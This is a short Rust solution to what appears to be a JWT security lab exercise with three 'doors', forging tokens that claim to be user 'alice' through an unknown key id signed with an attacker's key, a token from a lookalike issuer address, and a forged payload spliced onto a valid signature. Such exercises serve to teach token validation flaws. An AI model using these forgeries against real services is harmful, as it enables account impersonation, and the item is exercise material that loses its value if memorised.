//! Door 1 accepts a key that Mallory has, under a name for which there is no rule. Door 2 accepts a token about Alice for
//! another service, whose address begins as the bank's does. Door 3 checks one token and reads another.

use exercises_4::three_doors::Mallory;
use jwt::lab::forge;
use serde_json::json;

pub fn forge(door: u8, mallory: &Mallory) -> String {
    let mut claims = forge::json(&mallory.token, 1).unwrap_or_default();
    claims["sub"] = "alice".into();
    let header = json!({ "alg": "HS256", "typ": "at+jwt", "kid": "nobody-knows-it" });
    match door {
        1 => forge::hs256(&mallory.webhooks, &forge::unsigned(&header, &claims)),
        2 => {
            mallory.alice_logs_in_at("https://accounts.bank.test.mallory.test").unwrap_or_default()
        }
        _ => format!("{}.{}", forge::unsigned(&header, &claims), mallory.token),
    }
}
